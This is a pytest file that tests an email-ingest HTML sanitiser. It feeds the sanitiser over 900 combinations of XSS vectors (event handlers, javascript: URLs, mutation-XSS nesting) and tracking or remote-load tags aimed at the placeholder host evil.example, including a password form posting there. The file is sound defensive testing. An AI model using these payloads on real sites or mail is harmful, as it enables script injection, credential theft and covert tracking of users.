"""HTML is made harmless (M8) and readable."""

import itertools
import re
from html.parser import HTMLParser

import pytest

from kontor_mail_ingest.domain.html_text import MOST_CHARACTERS, is_tame, sanitise, shown_content_ids, strip_markup, to_text

SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=cid:a onload=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<body onload=alert(1)>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p id=location name=forms>clobbered</p>",
]
TRACKERS = [
    "<img src=https://evil.example/t.gif>",
    "<img src=//evil.example/t.gif>",
    "<img src=/t.gif>",
    "<img srcset='https://evil.example/t.gif 2x'>",
    "<img src=cid:a longdesc=https://evil.example>",
    "<picture><source srcset=https://evil.example/t.gif></picture>",
    "<body background=https://evil.example/t.gif>",
    "<table background=https://evil.example/t.gif><tr><td background=https://evil.example/t.gif>x</table>",
    "<div style='background:url(https://evil.example/t.gif)'>x</div>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style>body{background:url(https://evil.example/t.gif)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<iframe src=https://evil.example></iframe>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<video src=https://evil.example/x.mp4 poster=https://evil.example/t.gif></video>",
    "<audio src=https://evil.example/x.mp3></audio>",
    "<input type=image src=https://evil.example/t.gif>",
    "<svg><image href=https://evil.example/t.gif /></svg>",
    "<img src='data:text/html,https://evil.example'>",
    "<img src='ftp://evil.example/t.gif'>",
    "<bgsound src=https://evil.example/x.wav>",
    "<applet code=https://evil.example/x></applet>",
]
WRAPPINGS = [
    "{}",
    "<p>before</p>{}<p>after</p>",
    "<table><tr><td>{}</td></tr></table>",
    "<div><b><i>{}</b></i>",
    "<a href='https://example.com'>{}</a>",
    "<!DOCTYPE html><html><head><title>t</title>{}</head><body>x</body></html>",
    "<p title='{}'>x</p>",
    '<p title="{}">x</p>',
    "<!-- > {} -->",
    "<textarea>{}</textarea>",
    "<select><option>{}</select>",
    "<noembed>{}</noembed>",
    "<xmp>{}</xmp>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<style><!--</style>{}-->",
    "<pre>{}",
    "</div></td></table>{}",
]
PAYLOADS = [wrapping.replace("{}", payload) for payload, wrapping in itertools.product(SCRIPTS + TRACKERS, WRAPPINGS)]


class Findings(HTMLParser):
    """What a browser would run or load in finished HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in (
            "script",
            "style",
            "link",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "form",
            "input",
            "base",
            "meta",
            "video",
            "audio",
        ):
            self.dangers.append(tag)
        for name, value in attrs:
            loads = name == "src" and not re.match(r"cid:|data:image/(png|gif|jpe?g|webp|bmp);base64,", value or "", re.IGNORECASE)
            runs = name.startswith("on") or name in ("style", "srcset", "background", "id", "name", "formaction", "poster")
            leads = name == "href" and not re.match(r"https?:|mailto:|tel:", value or "", re.IGNORECASE)
            if loads or runs or leads:
                self.dangers.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("part", range(10))
def test_no_script_runs_and_nothing_is_loaded(part: int) -> None:
    assert len(PAYLOADS) >= 900
    for payload in PAYLOADS[part::10]:
        cleaned = sanitise(payload)
        assert Findings(cleaned).dangers == [], payload
        assert sanitise(cleaned) == cleaned, payload


@pytest.mark.parametrize("payload", SCRIPTS + TRACKERS)
def test_the_words_around_a_payload_remain(payload: str) -> None:
    text = to_text(sanitise(f"<p>before</p>{payload}<p>after</p>"))
    assert "before" in text


@pytest.mark.parametrize(
    ("markup", "kept"),
    [
        ('<a href="https://example.com/?a=1&amp;b=2">x</a>', 'href="https://example.com/?a=1&amp;b=2"'),
        ('<a href="https://example.com">x</a>', 'rel="noopener noreferrer"'),
        ('<a href="mailto:a@example.com">x</a>', 'href="mailto:a@example.com"'),
        ('<img src="cid:a@b">', 'src="cid:a@b"'),
        ('<img src="data:image/png;base64,iVBO">', 'src="data:image/png;base64,iVBO"'),
        ("<table><tr><td colspan=2 align=right>x</td></tr></table>", 'colspan="2"'),
        ("<font color=#ff0000>x</font>", 'color="#ff0000"'),
        ("<blockquote>x</blockquote>", "<blockquote>"),
    ],
)
def test_what_is_harmless_stays(markup: str, kept: str) -> None:
    assert kept in sanitise(markup)


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>Hello</p><p>World</p>", "Hello\n\nWorld"),
        ("one<br>two", "one\ntwo"),
        ("<ul><li>one</li><li>two</li></ul>", "  * one\n  * two"),
        ("<title>no</title><style>p{}</style><script>no</script>yes", "yes"),
        ("a&nbsp;b &lt;c&gt; &auml;", "a b <c> ä"),
        ("<p>a</p>" + "<br>" * 20 + "<p>b</p>", "a\n\nb"),
        ("<!--[if mso]><p>no</p><![endif]-->yes", "yes"),
        ("<![if !mso]>yes<![endif]>", "yes"),
        ("", ""),
        ("<p></p>", ""),
        ("<html><body></body></html>", ""),
        ("<" * 1000, "<" * 1000),
        ("plain text", "plain text"),
        ('<?xml version="1.0" encoding="utf-8"?><html><body>yes</body></html>', "yes"),
    ],
)
def test_html_becomes_text(markup: str, text: str) -> None:
    assert to_text(sanitise(markup)) == text


def test_text_deep_inside_is_not_lost() -> None:
    assert to_text(sanitise("<div>" * 900 + "deep")) == "deep"


def test_a_table_of_very_many_cells_is_still_text() -> None:
    assert "cell" in to_text(sanitise("<table>" + ("<tr>" + "<td>cell" * 100) * 300 + "</table>"))


@pytest.mark.parametrize(
    ("markup", "tame"),
    [
        ("<p>" * 50_000, True),
        ("<li>" * 50_000, True),
        ("<div></div>" * 50_000, True),
        ("<div>" * 999, True),
        ("<div>" * 1_001, False),
        ("<ul><li>" * 1_001, False),
        ("<p " + "a=1 " * 1_000 + ">", False),
        ("<p " + "a " * 10_000 + ">", False),
        ("x" * MOST_CHARACTERS, True),
        ("x" * (MOST_CHARACTERS + 1), False),
    ],
)
def test_what_would_take_too_long_is_not_sanitised(markup: str, tame: bool) -> None:
    assert is_tame(markup) is tame


def test_wild_html_is_reduced_to_its_words() -> None:
    assert strip_markup("<div>" * 5_000 + "a &amp; b<br>") == "a & b"


def test_images_shown_by_content_id_are_known() -> None:
    cleaned = sanitise('<img src="cid:a@b"><img src=cid:c&amp;d><img src=https://example.com/x.png><a href="cid:no">x</a>')
    assert shown_content_ids(cleaned) == {"a@b", "c&d"}
